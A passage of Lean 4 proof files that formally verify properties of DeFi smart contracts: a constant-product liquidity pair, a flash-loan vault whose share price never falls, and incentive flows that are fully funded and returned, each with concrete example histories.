  obtain ⟨share, lock, _, _, es, _, _, _, _, _, _, eS, eP, _⟩ := provide_ok h
  rcases provideShares_ok es with ⟨h0, _⟩ | ⟨_, hk, n0, n1, hsh⟩
  · exact absurd h0 hS
  · subst hk
    have e : s'.sup - s.sup = share := by omega
    rw [e]
    refine ⟨?_, ?_, by omega⟩
    · have : share ≤ d0 * s.sup / (s.x0.bal - s.x0.pend) := by rw [hsh]; exact Nat.min_le_left _ _
      exact Nat.le_trans (Nat.mul_le_mul_right _ this) (Nat.div_mul_le_self _ _)
    · have : share ≤ d1 * s.sup / (s.x1.bal - s.x1.pend) := by rw [hsh]; exact Nat.min_le_right _ _
      exact Nat.le_trans (Nat.mul_le_mul_right _ this) (Nat.div_mul_le_self _ _)

/-- **a withdrawal never pays out more than the pro-rata share** of the reported reserves (two nested
    floors), burns exactly the LP sent, and leaves the pair's own LP alone -/
theorem withdraw_le_pro_rata {s s' : St} {u amt : Nat} (h : withdraw s u amt = .ok s') :
    (s.x0.bal - s'.x0.bal) * s.sup ≤ s.x0.res * amt ∧ (s.x1.bal - s'.x1.bal) * s.sup ≤ s.x1.res * amt ∧
    s'.sup = s.sup - amt ∧ s'.lpPair = s.lpPair ∧ amt ≤ (s.user u).lp := by
  obtain ⟨r0, r1, er, _, ha, hr0, hr1, e0, e1, eS, eP, _⟩ := withdraw_ok h
  obtain ⟨hS, _, _, q0, q1⟩ := refunds_ok er
  have p0 := refund_le_pro_rata (p := s.x0.bal - s.x0.pend) (amt := amt) hS E18_pos
  have p1 := refund_le_pro_rata (p := s.x1.bal - s.x1.pend) (amt := amt) hS E18_pos
  rw [← q0] at p0
  rw [← q1] at p1
  have d0 : s.x0.bal - s'.x0.bal = r0 := by rw [e0]; simp only []; omega
  have d1 : s.x1.bal - s'.x1.bal = r1 := by rw [e1]; simp only []; omega
  rw [d0, d1]
  exact ⟨p0, p1, eS, eP, ha⟩

/-- **depositing and immediately withdrawing never pays out more than was deposited** (for any part
    of the minted shares; an empty pool is assumed to hold nothing — a plain transfer into a pool
    without supply is a gift to the first depositor and outside the property's operation set) -/
theorem deposit_then_withdraw_le {s s1 s2 : St} {u d0 d1 amt : Nat} {tol : Option Nat}
    (hp : provide cpCurve s u u d0 d1 tol = .ok s1)
    (hamt : amt + (s.user u).lp ≤ (s1.user u).lp)
    (hw : withdraw s1 u amt = .ok s2)
    (hempty : s.sup = 0 → s.x0.bal = s.x0.pend ∧ s.x1.bal = s.x1.pend) :
    (s2.user u).a ≤ (s.user u).a ∧ (s2.user u).b ≤ (s.user u).b :=
  Pair.deposit_then_withdraw_le hp hamt hw hempty

/-- **the first deposit locks exactly `MINIMUM_LIQUIDITY_AMOUNT` = 1000 LP in the pair** and mints
    `⌊√(d0·d1)⌋ − 1000 > 0` to the receiver (the documented number is pinned: a changed constant in
    the source breaks this theorem) -/
theorem first_deposit_locks {s s' : St} {u rcv d0 d1 : Nat} {tol : Option Nat}
    (h : provide cpCurve s u rcv d0 d1 tol = .ok s') (hS : s.sup = 0) :
    s'.lpPair = s.lpPair + 1000 ∧ s'.sup + 0 = isqrt (d0 * d1) ∧ 1000 < s'.sup := by
  obtain ⟨share, lock, _, _, es, _, _, _, _, _, _, eS, eP, _⟩ := provide_ok h
  rcases provideShares_ok es with ⟨_, hk, hne, hsq⟩ | ⟨hn, _⟩
  · have hm : Gen.MINIMUM_LIQUIDITY_AMOUNT = 1000 := rfl
    rw [hm] at hk hsq
    omega
  · exact absurd hS hn

/-- **the minimum-liquidity stake stays locked forever**: from an invariant state with supply, after
    ANY history the pair still holds at least 1000 LP that no user owns (supply − Σ users' LP), so
    users withdrawing everything leave at least 1000 LP outstanding -/
theorem locked_forever (s : St) (hI : Inv s) (hS : s.sup ≠ 0) (ops : List Op) :
    1000 ≤ (reach cpCurve s ops).lpPair ∧
    (reach cpCurve s ops).sup = (reach cpCurve s ops).lpPair + sumF (·.lp) (reach cpCurve s ops).users := by
  obtain ⟨hI', hl⟩ := reach_inv s hI ops
  have hm : Gen.MINIMUM_LIQUIDITY_AMOUNT = 1000 := rfl
  refine ⟨?_, hI'.lpSum⟩
  rcases hI.locked with h0 | h0
  · exact absurd h0 hS
  · omega

/-- **a swap is priced on the reported reserves** — balance minus pending protocol fees, the offer
    that has just arrived excluded — by the constant-product computation of C02 (`cpSwap`, whose exact
    price / fee split / no-free-money theorems are in WW/Props/C02.lean); the swap fee stays in the
    reserves, the burn fee leaves, the protocol fee moves to the fee ledger; LP supply is untouched -/
theorem swap_priced_on_reported_reserves {s s' : St} {u dir off rcv : Nat} {ms : Option Nat}
    (h : swap cpCurve s u dir off ms rcv = .ok s') :
    s'.sup = s.sup ∧ s'.lpPair = s.lpPair ∧
    ((dir = 0 ∧ ∃ c, cpSwap s.x0.res s.x1.res off s.fees = .ok c ∧
        s'.x0.bal = s.x0.bal + off ∧ s'.x0.pend = s.x0.pend ∧
        s'.x1.bal = s.x1.bal - c.ret - c.burnFee ∧ s'.x1.pend = s.x1.pend + c.protFee ∧
        s'.x1.res + c.ret + c.protFee + c.burnFee = s.x1.res) ∨
     (dir ≠ 0 ∧ ∃ c, cpSwap s.x1.res s.x0.res off s.fees = .ok c ∧
        s'.x1.bal = s.x1.bal + off ∧ s'.x1.pend = s.x1.pend ∧
        s'.x0.bal = s.x0.bal - c.ret - c.burnFee ∧ s'.x0.pend = s.x0.pend + c.protFee ∧
        s'.x0.res + c.ret + c.protFee + c.burnFee = s.x0.res)) := by
  obtain ⟨e1, e2, _, _, _, hcase⟩ := swap_ok h
  refine ⟨e1, e2, ?_⟩
  rcases hcase with ⟨hd, a', c, fx, x0, x1, _, _⟩ | ⟨hd, a', c, fx, x1, x0, _, _⟩
  · left
    obtain ⟨g, hg1, _, hg3⟩ := cp_swap_bound fx
    have hc : cpSwap (s.x0.bal + off - s.x0.pend - off) (s.x1.bal - s.x1.pend) off s.fees = .ok c := fx.comp
    have ho := fx.offerOk; have := fx.askOk; have := fx.bal; have := fx.pend; have := fx.paid
    simp only [] at ho
    have e : s.x0.bal + off - s.x0.pend - off = s.x0.bal - s.x0.pend := by omega
    rw [e] at hc
    refine ⟨hd, c, hc, by rw [x0], by rw [x0], by rw [x1]; exact fx.bal, by rw [x1]; exact fx.pend, ?_⟩
    rw [x1]; simp only [Side.res] at *; omega
  · right
    obtain ⟨g, hg1, _, hg3⟩ := cp_swap_bound fx
    have hc : cpSwap (s.x1.bal + off - s.x1.pend - off) (s.x0.bal - s.x0.pend) off s.fees = .ok c := fx.comp
    have ho := fx.offerOk; have := fx.askOk; have := fx.bal; have := fx.pend; have := fx.paid
    simp only [] at ho
    have e : s.x1.bal + off - s.x1.pend - off = s.x1.bal - s.x1.pend := by omega
    rw [e] at hc
    refine ⟨hd, c, hc, by rw [x1], by rw [x1], by rw [x0]; exact fx.bal, by rw [x0]; exact fx.pend, ?_⟩
    rw [x0]; simp only [Side.res] at *; omega

/-- fee-setting: only the owner, only valid fee triples; nothing else changes -/
theorem set_fees_guarded {s s' : St} {o : Bool} {f : Fees} (h : setFees s o f = .ok s') :
    o = true ∧ f.valid = true ∧ s' = { s with fees := f } := setFees_ok h

/-! ### non-vacuity: a concrete history (native / cw20 pair, fees 0.1 % / 0.2 % / 0.1 %) -/

def exInit : St :=
  init true false { prot := 1000000000000000, swap := 2000000000000000, burn := 1000000000000000 }
    [{ a := 1000000000, b := 1000000000, lp := 0 }, { a := 1000000000, b := 1000000000, lp := 0 },
     { a := 1000000000, b := 1000000000, lp := 0 }]

def exOps : List Op :=
  [.provide 0 0 1000000 4000000 none, .swap 1 0 400000 (some 500000000000000000) 2, .collect,
   .provide 2 2 50000 190000 none, .withdraw 0 1999000, .swap 2 1 100000 (some 500000000000000000) 2]

/-- the hypotheses of the history theorems are met by a reachable state with supply, and the model's
    exact output on this history -/
example :
    (reach cpCurve exInit exOps).x0.bal = 26236 ∧ (reach cpCurve exInit exOps).x1.bal = 206625 ∧
    (reach cpCurve exInit exOps).x0.pend = 24 ∧ (reach cpCurve exInit exOps).x1.pend = 0 ∧
    (reach cpCurve exInit exOps).sup = 72428 ∧ (reach cpCurve exInit exOps).lpPair = 1000 ∧
    (reach cpCurve exInit exOps).x1.col = 1142 ∧ (reach cpCurve exInit exOps).x1.brn = 1142 := by decide

example : (reach cpCurve exInit (exOps.take 1)).sup ≠ 0 ∧
    (∀ u ∈ exInit.users, u.lp = 0) := by decide

end WW.C01
