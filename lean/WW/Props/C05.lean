/-
  C05 — Flash-loan vault: depositor share price never decreases.
  Property theorems only. Model: WW/Model/Vault.lean (tied to the real vault contract by the `vault`
  correspondence engine); helpers: WW/Proofs/Vault.lean.

  `backing s = balance − pending protocol fees`, `s.sup` = share (LP) supply. "Share price never
  decreases" is stated cross-multiplied and exact in ℕ:  backing s · sup' ≤ backing s' · sup.
  All theorems hold for native and cw20 vault assets alike (`s.kind` is arbitrary), for every valid
  or invalid stored fee triple, for every amount, and for every borrower callback tree.
-/
import WW.Proofs.Vault
namespace WW.C05
open WW WW.Vault

/-- Every successful operation — deposit, withdrawal, fee collection, fee / toggle change, donation,
    flash loan with an arbitrary callback tree, flash loan through the vault router with an arbitrary
    payload, plain transfers to the router, refused router calls, refused foreign entry points
    (direct `Withdraw {}`, hooks from other tokens, `Callback` from outside) — preserves the vault invariant and
    does not lower the assets backing one share. -/
theorem price_step {s s' : St} (op : Op) (hI : Inv s) (h : step s op = some s') :
    Inv s' ∧ (0 < s.sup → backing s * s'.sup ≤ backing s' * s.sup) := by
  induction op generalizing s s' with
  | deposit who amount sent =>
    simp only [step] at h
    split at h
    · cases h
    · obtain ⟨hI', _, _, hp⟩ := deposit_spec hI (by omega) h
      exact ⟨hI', hp⟩
  | withdraw who lp =>
    simp only [step] at h
    split at h
    · cases h
    · obtain ⟨hI', hp, _⟩ := withdraw_spec hI (by omega) h
      exact ⟨hI', fun _ => hp⟩
  | collect =>
    simp only [step] at h
    obtain ⟨hI', hb, hs, _⟩ := collect_spec hI h
    exact ⟨hI', fun _ => by rw [hb, hs]⟩
  | setFees f =>
    simp only [step] at h
    split at h
    · injection h with h; subst h
      exact ⟨⟨hI.abLen, hI.lbLen, hI.pendLe, hI.assetSum, hI.lpSum, hI.locked, hI.ctr0⟩, fun _ => le_refl _⟩
    · cases h
  | setToggles d w f =>
    simp only [step] at h
    injection h with h; subst h
    exact ⟨⟨hI.abLen, hI.lbLen, hI.pendLe, hI.assetSum, hI.lpSum, hI.locked, hI.ctr0⟩, fun _ => le_refl _⟩
  | loan amount cb =>
    simp only [step] at h
    have L := loan_spec hI h
    refine ⟨L.inv, fun _ => ?_⟩
    have h1 := L.balGe
    have h2 := L.pendLe
    have h3 := L.supLe
    have h4 := hI.pendLe
    have hb : backing s ≤ backing s' := by unfold backing; omega
    exact Nat.mul_le_mul hb h3
  | donate who n =>
    simp only [step] at h
    split at h
    · cases h
    · obtain ⟨rfl, _, hsum, hlen⟩ := payIn_spec hI.abLen (by omega) h
      refine ⟨⟨hlen, hI.lbLen, ?_, ?_, hI.lpSum, hI.locked, hI.ctr0⟩, fun _ => ?_⟩
      · have := hI.pendLe; simp only; omega
      · rw [hsum]; exact hI.assetSum
      · have := hI.pendLe
        apply Nat.mul_le_mul_right
        unfold backing; simp only; omega
  | routerLoan initiator amount payload =>
    simp only [step] at h
    split at h
    · cases h
    · have L := router_loan_spec hI (by omega) h
      refine ⟨L.inv, fun _ => ?_⟩
      have h1 := L.balGe
      have h2 := L.pendLe
      have h3 := L.supLe
      have h4 := hI.pendLe
      have hb : backing s ≤ backing s' := by unfold backing; omega
      exact Nat.mul_le_mul hb h3
  | routerLoanNone who payload =>
    simp only [step] at h
    injection h with h; subst h
    exact ⟨hI, fun _ => le_refl _⟩
  | routerLoanMulti who a1 a2 payload => exact absurd h (by simp [step])
  | fundRouter who n =>
    simp only [step] at h
    split at h
    · cases h
    · obtain ⟨hI', hb, hs, _⟩ := move_inv hI (by omega) (by omega) h
      exact ⟨hI', fun _ => by rw [hb, hs]⟩
  | nextLoanBy who amount payload => exact absurd h (by simp [step])
  | completeLoanBy who initiator amount => exact absurd h (by simp [step])
  | foreign k who a b => exact absurd h (by simp [step])
  | attach who sel n op ih =>
    -- the stray coins arrive (at most a donation: backing does not fall, supply untouched), then the message runs
    obtain ⟨dst, s1, _, _, ha, hs⟩ := attach_parts h
    have A := arrive_spec hI ha
    obtain ⟨hI', hp⟩ := ih A.inv hs
    refine ⟨hI', fun hpos => ?_⟩
    have h1 := hp (by rw [A.sup]; exact hpos)
    rw [A.sup] at h1
    exact le_trans (Nat.mul_le_mul_right _ A.backing_le) h1

/-- The invariant holds in every reachable state (failed operations leave the state untouched). -/
theorem inv_reach {s : St} (hI : Inv s) (ops : List Op) : Inv (reach s ops) := by
  induction ops generalizing s with
  | nil => exact hI
  | cons op ops ih =>
    simp only [reach, List.foldl_cons]
    apply ih
    unfold Vault.apply
    cases h : step s op with
    | none => exact hI
    | some s' => exact (price_step op hI h).1

/-- the vault's own stake never moves once it exists -/
private theorem lpVault_keep {s s' : St} (op : Op) (hI : Inv s) (h : step s op = some s') :
    s'.lpVault = s.lpVault ∨ s.sup = 0 := by
  induction op generalizing s s' with
  | deposit who amount sent =>
    simp only [step] at h; split at h
    · cases h
    · obtain ⟨_, rfl⟩ := deposit_ok_of_some h
      by_cases h0 : s.sup = 0
      · exact Or.inr h0
      · left; simp only [depositRes]; rw [if_neg h0]; rfl
  | withdraw who lp =>
    simp only [step] at h; split at h
    · cases h
    · obtain ⟨_, _, _, _, _, _, _, a8, _⟩ := withdraw_spec_gen hI.abLen hI.lbLen (by omega) h
      exact Or.inl a8
  | collect =>
    simp only [step] at h
    unfold collect at h
    split at h
    · injection h with h; subst h; exact Or.inl rfl
    · split at h
      · cases h
      · injection h with h; subst h; exact Or.inl rfl
  | setFees f =>
    simp only [step] at h; split at h
    · injection h with h; subst h; exact Or.inl rfl
    · cases h
  | setToggles d w f => simp only [step] at h; injection h with h; subst h; exact Or.inl rfl
  | loan amount cb =>
    simp only [step] at h
    exact Or.inl (loan_spec hI h).lpVault
  | donate who n =>
    simp only [step] at h; split at h
    · cases h
    · obtain ⟨rfl, _⟩ := payIn_spec hI.abLen (by omega) h
      exact Or.inl rfl
  | routerLoan initiator amount payload =>
    simp only [step] at h; split at h
    · cases h
    · exact Or.inl (router_loan_spec hI (by omega) h).lpVault
  | routerLoanNone who payload => simp only [step] at h; injection h with h; subst h; exact Or.inl rfl
  | routerLoanMulti who a1 a2 payload => exact absurd h (by simp [step])
  | fundRouter who n =>
    simp only [step] at h; split at h
    · cases h
    · exact Or.inl (move_inv hI (by omega) (by omega) h).2.2.2.1
  | nextLoanBy who amount payload => exact absurd h (by simp [step])
  | completeLoanBy who initiator amount => exact absurd h (by simp [step])
  | foreign k who a b => exact absurd h (by simp [step])
  | attach who sel n op ih =>
    obtain ⟨dst, s1, _, _, ha, hs⟩ := attach_parts h
    have A := arrive_spec hI ha
    rcases ih A.inv hs with h1 | h1
    · left; rw [h1, A.lpVault]
    · right; rw [← A.sup]; exact h1

/-- Once shares exist they exist forever (the locked minimum can never be withdrawn). -/
theorem supply_stays_positive {s s' : St} (op : Op) (hI : Inv s) (h : step s op = some s')
    (hpos : 0 < s.sup) : 0 < s'.sup := by
  have hI' := (price_step op hI h).1
  rcases hI'.locked with ⟨h0, h1⟩ | h1
  · -- s'.sup = 0 ∧ s'.lpVault = 0 is impossible: the vault's own stake never moves once created
    exfalso
    have hv := hI.sup_pos_locked (by omega)
    have hkeep := lpVault_keep op hI h
    have := min_liq_pos
    rcases hkeep with hk | hk <;> omega
  · have := hI'.lpSum
    have := min_liq_pos
    omega

/-- **Share price is monotone over every history**: from any invariant state with shares
    outstanding, after any finite sequence of operations by any users (failed ones skipped),
    assets per share have not decreased. -/
theorem price_reach {s : St} (hI : Inv s) (hpos : 0 < s.sup) (ops : List Op) :
    0 < (reach s ops).sup ∧ backing s * (reach s ops).sup ≤ backing (reach s ops) * s.sup := by
  induction ops generalizing s with
  | nil => exact ⟨hpos, le_refl _⟩
  | cons op ops ih =>
    simp only [reach, List.foldl_cons]
    unfold Vault.apply
    cases h : step s op with
    | none => exact ih hI hpos
    | some s1 =>
      simp only [Option.getD_some]
      obtain ⟨hI1, hp1⟩ := price_step op hI h
      have hpos1 := supply_stays_positive op hI h hpos
      obtain ⟨hposn, hpn⟩ := ih hI1 hpos1
      refine ⟨hposn, ?_⟩
      have hp1' := hp1 hpos
      -- chain: b0*S1 ≤ b1*S0 and b1*Sn ≤ bn*S1  ⟹  b0*Sn ≤ bn*S0   (S1 > 0)
      have : backing s * (List.foldl Vault.apply s1 ops).sup * s1.sup
          ≤ backing (List.foldl Vault.apply s1 ops) * s.sup * s1.sup := by
        calc backing s * (List.foldl Vault.apply s1 ops).sup * s1.sup
            = (backing s * s1.sup) * (List.foldl Vault.apply s1 ops).sup := by ring
          _ ≤ (backing s1 * s.sup) * (List.foldl Vault.apply s1 ops).sup := Nat.mul_le_mul_right _ hp1'
          _ = (backing s1 * (List.foldl Vault.apply s1 ops).sup) * s.sup := by ring
          _ ≤ (backing (List.foldl Vault.apply s1 ops) * s1.sup) * s.sup := Nat.mul_le_mul_right _ hpn
          _ = backing (List.foldl Vault.apply s1 ops) * s.sup * s1.sup := by ring
      exact Nat.le_of_mul_le_mul_right this hpos1

/-- A deposit mints at most the pro-rata number of shares: `minted · backing ≤ amount · supply`. -/
theorem deposit_le_pro_rata {s s' : St} {who amount sent : Nat} (hI : Inv s) (hpos : 0 < s.sup)
    (h : deposit s who amount sent = some s') :
    depositMint s amount * backing s ≤ amount * s.sup ∧
    getN s'.lb who = getN s.lb who + depositMint s amount ∨ 4 ≤ who := by
  by_cases hw : who < 4
  · left
    obtain ⟨_, rfl⟩ := deposit_ok_of_some h
    constructor
    · unfold depositMint backing
      rw [if_neg (by omega)]
      exact Nat.div_mul_le_self _ _
    · simp only [depositRes]
      exact getN_setN_same _ _ _ (by rw [hI.lbLen]; exact hw)
  · right; omega

/-- A withdrawal pays at most the pro-rata amount: `paid · supply ≤ backing · shares`. -/
theorem withdraw_le_pro_rata {s s' : St} {who lp : Nat} (hI : Inv s) (hw : who < 4)
    (h : withdraw s who lp = some s') :
    shareOf s lp * s.sup ≤ backing s * lp ∧ s'.bal + shareOf s lp = s.bal :=
  ⟨(withdraw_spec hI hw h).2.2, (withdraw_spec_gen hI.abLen hI.lbLen hw h).2.2.2.2.2.1⟩

/-- The first deposit locks exactly `MINIMUM_LIQUIDITY_AMOUNT` (= 1000) shares in the vault itself
    and gives the depositor the rest. -/
theorem first_deposit_locks {s s' : St} {who amount sent : Nat} (hI : Inv s) (hw : who < 4)
    (h0 : s.sup = 0) (h : deposit s who amount sent = some s') :
    s'.lpVault = 1000 ∧ s'.sup = amount ∧ getN s'.lb who = getN s.lb who + (amount - 1000) := by
  obtain ⟨hok, rfl⟩ := deposit_ok_of_some h
  simp only [depositOk, Bool.and_eq_true, decide_eq_true_eq, if_pos h0] at hok
  have hmin : Gen.MINIMUM_LIQUIDITY_AMOUNT = 1000 := by decide
  have hv := hI.sup_zero_lpVault h0
  refine ⟨?_, ?_, ?_⟩
  · simp only [depositRes, if_pos h0]; omega
  · simp only [depositRes, depositMint, if_pos h0]; omega
  · simp only [depositRes, depositMint, if_pos h0, hmin]
    exact getN_setN_same _ _ _ (by rw [hI.lbLen]; exact hw)

/-- …and it stays locked: in every reachable state with shares outstanding the vault holds exactly
    1000 of its own shares. -/
theorem locked_forever {s : St} (hI : Inv s) (ops : List Op) (h : (reach s ops).sup ≠ 0) :
    (reach s ops).lpVault = 1000 := by
  have := (inv_reach hI ops).sup_pos_locked h
  rw [this]; decide

/-- arithmetic core of deposit-then-withdraw -/
private theorem dtw_core (T S a lp out : Nat) (hS : 0 < S) (hlp : lp * T ≤ a * S)
    (hout : out * (S + lp) ≤ (T + a) * lp) : out ≤ a := by
  by_contra hgt
  have hgt : a + 1 ≤ out := by omega
  have h1 : (a + 1) * (S + lp) ≤ (T + a) * lp := le_trans (Nat.mul_le_mul_right _ hgt) hout
  nlinarith

/-- Deposit-then-withdraw never returns more than was deposited.
    `hempty`: an empty vault holds nothing (true in every state reachable by the vault's own
    operations; somebody who *donates* to an empty vault makes a gift to the first depositor —
    outside the property's operation set, exercised separately by the harness). -/
theorem deposit_then_withdraw_le {s s1 s2 : St} {who amount sent lp : Nat} (hI : Inv s) (hw : who < 4)
    (hempty : s.sup = 0 → backing s = 0)
    (hd : deposit s who amount sent = some s1) (hlp : lp ≤ depositMint s amount)
    (hwd : withdraw s1 who lp = some s2) : shareOf s1 lp ≤ amount := by
  obtain ⟨hI1, hbal, hpend, _⟩ := deposit_spec hI hw hd
  obtain ⟨hok, hs1⟩ := deposit_ok_of_some hd
  have hshare := (withdraw_spec hI1 hw hwd).2.2
  have hb1 : backing s1 = backing s + amount := by
    have := hI.pendLe; unfold backing; omega
  by_cases h0 : s.sup = 0
  · -- first deposit: everything backing the vault is this deposit
    have hs : s1.sup = amount := by
      rw [hs1]
      simp only [depositOk, Bool.and_eq_true, decide_eq_true_eq, if_pos h0] at hok
      simp only [depositRes, depositMint, if_pos h0]; omega
    have hm : depositMint s amount ≤ amount := by
      unfold depositMint; rw [if_pos h0]; omega
    rw [hb1, hempty h0, hs, Nat.zero_add] at hshare
    have hpos : 0 < amount := by
      simp only [depositOk, Bool.and_eq_true, decide_eq_true_eq, if_pos h0] at hok; omega
    have : shareOf s1 lp * amount ≤ amount * amount :=
      le_trans hshare (Nat.mul_le_mul_left _ (le_trans hlp hm))
    exact Nat.le_of_mul_le_mul_right this hpos
  · have hs : s1.sup = s.sup + depositMint s amount := by
      rw [hs1]; simp only [depositRes, if_neg h0]; omega
    have hmint : depositMint s amount * backing s ≤ amount * s.sup := by
      unfold depositMint backing; rw [if_neg h0]; exact Nat.div_mul_le_self _ _
    rw [hb1, hs] at hshare
    apply dtw_core (backing s) s.sup amount lp (shareOf s1 lp) (by omega)
    · exact le_trans (Nat.mul_le_mul_right _ hlp) hmint
    · -- monotone in the share count: withdrawing lp ≤ minted of (S + minted)
      have : shareOf s1 lp * (s.sup + lp) ≤ shareOf s1 lp * (s.sup + depositMint s amount) :=
        Nat.mul_le_mul_left _ (by omega)
      exact le_trans this hshare

/-! ### coins attached to a message that does not ask for them

`price_step`, `inv_reach`, `price_reach`, `locked_forever` above quantify over ALL operations, the
ones carrying stray coins (`Op.attach`) included. The theorems below say what such coins are. -/

/-- **Stray coins never lower the share price and never touch the share ledgers**: a message sent to
    the vault or the router with coins attached that it does not ask for (any sender, the vault asset's
    own denom or an unrelated one, any amount) runs exactly as the same message without coins from a
    state `s1` that differs from `s` by at most a donation — the vault's balance did not fall, pending
    fees, share supply, every share balance and the locked minimum are those of `s`, the invariant
    holds — so (by `price_step` for the message itself) assets per share did not fall. -/
theorem stray_coins_never_lower_price {s s' : St} {who sel n : Nat} {op : Op} (hI : Inv s)
    (h : step s (.attach who sel n op) = some s') :
    ∃ s1, step s1 op = some s' ∧ Inv s1 ∧ backing s ≤ backing s1 ∧ s1.sup = s.sup ∧ s1.lb = s.lb ∧
      s1.lpVault = s.lpVault ∧ s1.pend = s.pend ∧
      (0 < s.sup → backing s * s'.sup ≤ backing s' * s.sup) := by
  obtain ⟨dst, s1, _, _, ha, hs⟩ := attach_parts h
  have A := arrive_spec hI ha
  exact ⟨s1, hs, A.inv, A.backing_le, A.sup, A.lb, A.lpVault, A.pend, (price_step _ hI h).2⟩

/-- `Deposit` on a vault accepts exactly the announced amount of the asset (native: the coins of the
    asset's denom attached; cw20: the allowance): one unit more or less attached is refused
    (`FundsMismatch`) — extra coins of the asset's denom can never be credited or swallowed. -/
theorem deposit_exact_funds {s s' : St} {who amount sent : Nat}
    (h : step s (.deposit who amount sent) = some s') : sent = amount := by
  simp only [step] at h
  split at h
  · cases h
  · obtain ⟨hok, _⟩ := deposit_ok_of_some h
    simp only [depositOk, Bool.and_eq_true, decide_eq_true_eq] at hok
    exact hok.1.2

/-- Coins of an unrelated denom attached to a `Deposit` do not change what the deposit mints or moves:
    the depositor gets exactly the shares of the same deposit without them. -/
theorem deposit_with_foreign_coins {s s' : St} {who sel n w amount sent : Nat} (hsel : sel ≠ 0)
    (h : step s (.attach who sel n (.deposit w amount sent)) = some s') :
    ∃ s1, step s1 (.deposit w amount sent) = some s' ∧ s1.bal = s.bal ∧ s1.ab = s.ab ∧ s1.lb = s.lb ∧
      s1.sup = s.sup ∧ s1.pend = s.pend ∧ depositMint s1 amount = depositMint s amount := by
  obtain ⟨dst, s1, _, _, ha, hs⟩ := attach_parts h
  obtain ⟨rfl, _⟩ := arrive_junk hsel ha
  exact ⟨_, hs, rfl, rfl, rfl, rfl, rfl, rfl⟩

/-- non-vacuity: a concrete history (deposit, loan with fees, collect, partial withdrawal) from the
    initial state satisfies the invariant, has shares outstanding, and its share price moved up. -/
example :
    let s0 := Vault.init 0 ⟨10000000000000000, 3000000000000000, 1000000000000000⟩ [5000000, 5000000, 0, 100000, 0, 0]
    let s := reach s0 [.deposit 0 1000000 1000000, .loan 500000 [.pay 507000], .collect, .withdraw 0 400000]
    (s.bal, s.pend, s.sup, s.lpVault, s.burned, shareOf s 1000000) = (600900, 0, 600000, 1000, 500, 1001499) := by
  decide

end WW.C05
