/-
  C12 — Incentive flows are fully funded and fully returned.
  Property theorems only (helpers in WW/Proofs/{Claim,Flows}.lean). Model: `WW.Inc.step` (engine
  `incentive`), following the repaired code (F4, F5, expand_flow TransferFrom dispatched, reset default).
-/
import WW.Proofs.Snapshot
namespace WW.C12
open WW WW.Gen WW.Inc

/-- Full-strength backing statement (per reward asset `a`): what the contract holds covers the flows'
    funded − claimed (plus the staked LP when `a` is the LP asset).
    NOT proved as a whole-history theorem (missing: the induction through `claimFlows` — the transfer
    messages add up to the increase of `claimed` — and the `open_flow` ledger case analysis). It is
    evaluated after every operation of every generated history on the real contracts by the monitor
    `C12:flow_backed`; the theorems below are the per-operation facts that induction consists of. -/
def FlowBacked (s : St) (a : Nat) (staked : Nat) : Prop :=
  ((s.flows.filter (fun f => f.asset = a)).map (fun f => f.funded - f.claimed)).sum
    + (if a = 0 then staked else 0) ≤ balOf s INC a

/-- **close_auth**: only the flow's creator or the factory owner can close a flow. -/
theorem close_auth {c : Cfg} {s s' : St} {e : Env} {id : Nat} (hoff : e.offers = [])
    (h : step c s e (.closeFlow id) = .ok s') :
    ∃ f, findFlow s.flows id = some f ∧ (f.creator = e.sender ∨ e.sender = OWNER) := by
  obtain ⟨f, hf, ha, _, _⟩ := step_closeFlow hoff h
  exact ⟨f, hf, ha⟩

/-- **close_returns_exact**: closing a flow pays exactly `funded − claimed` (funded = the latest
    expanded amount, or the original one) of the flow's asset to the flow's *creator* — whoever the
    sender is — out of the contract's balance, and removes the flow. -/
theorem close_returns_exact {c : Cfg} {s s' : St} {e : Env} {id : Nat} (hoff : e.offers = [])
    (h : step c s e (.closeFlow id) = .ok s') :
    ∃ f, findFlow s.flows id = some f ∧ findFlow s'.flows id = none
      ∧ (f.creator ≠ INC →
          balOf s' f.creator f.asset = balOf s f.creator f.asset + (f.funded - f.claimed)
          ∧ balOf s' INC f.asset + (f.funded - f.claimed) = balOf s INC f.asset) := by
  obtain ⟨f, hf, _, hn, hb⟩ := step_closeFlow hoff h
  exact ⟨f, hf, hn, hb⟩

/-- **claims_le_funded** (claim side): one iteration of the claim loop never lets the flow's claimed
    amount exceed the flow's expanded funded amount, and pays out exactly the increase.
    `_partial`: the whole-history statement additionally needs that `expand_flow` never lowers the
    funded amount below `claimed` (true on monotone epochs; not proved). -/
theorem claims_le_funded_partial {s : St} {u expAmt expEnd ep : Nat} {st st' : ClaimLoop}
    (hle : st.flow.claimed ≤ expAmt)
    (h : claimEpoch s u expAmt expEnd st ep = .ok (.next st')) :
    st'.flow.claimed ≤ expAmt
    ∧ st'.msgs = st.msgs ++ (if st'.flow.claimed = st.flow.claimed then []
        else [Msg.send INC u st.flow.asset (st'.flow.claimed - st.flow.claimed)]) :=
  ⟨claimEpoch_claimed_le hle h, (claimEpoch_le_emission h).2⟩

/-- **open_expand_exact** (expansion, funds side): an accepted expansion of a cw20 flow carries exactly
    one `TransferFrom` of the stated amount from the sender to the contract (the whole transaction fails
    if it fails); an accepted expansion of a native flow has exactly the stated amount of the flow's
    denom — and no other coin — attached.
    `_partial`: that the flow's funded amount then grows by exactly that amount (asset-history
    bookkeeping) and the `open_flow` fee/asset case analysis are not proved here; they are checked by
    the monitors `C12:expand_exact`, `C12:open_exact`, `C12:open_fee_to_collector`. -/
theorem open_expand_exact_partial {c : Cfg} {e : Env} {a amount : Nat} {m : List Msg}
    (h : expandFlowFunds c e a amount = .ok m) :
    (c.native a = true ∧ fundsOf c e.offers = [(a, amount)] ∧ amount ≠ 0 ∧ m = [])
    ∨ (c.native a = false ∧ amount ≤ aget (allowOf c e.offers) a ∧ m = [.pull e.sender INC a amount]) :=
  expandFlowFunds_spec h

/-- non-vacuity: dave opens a native flow of 1 000 000 `ureward` (fee 1000 `uwhale`), expands it by
    500 000, the owner closes it: dave gets 1 500 000 back, the collector keeps the fee, the contract 0 -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((4, 1), 5000), ((4, 2), 2000000)]
    let s := reach c s0 [({ epoch := 1, time := 100, sender := 4, offers := [(1, 1000), (2, 1000000)] }, .openFlow 2 1000000 none (some 10)),
                         ({ epoch := 2, time := 200, sender := 4, offers := [(2, 500000)] }, .expandFlow 1 2 500000 none),
                         ({ epoch := 3, time := 300, sender := 5, offers := [] }, .closeFlow 1)]
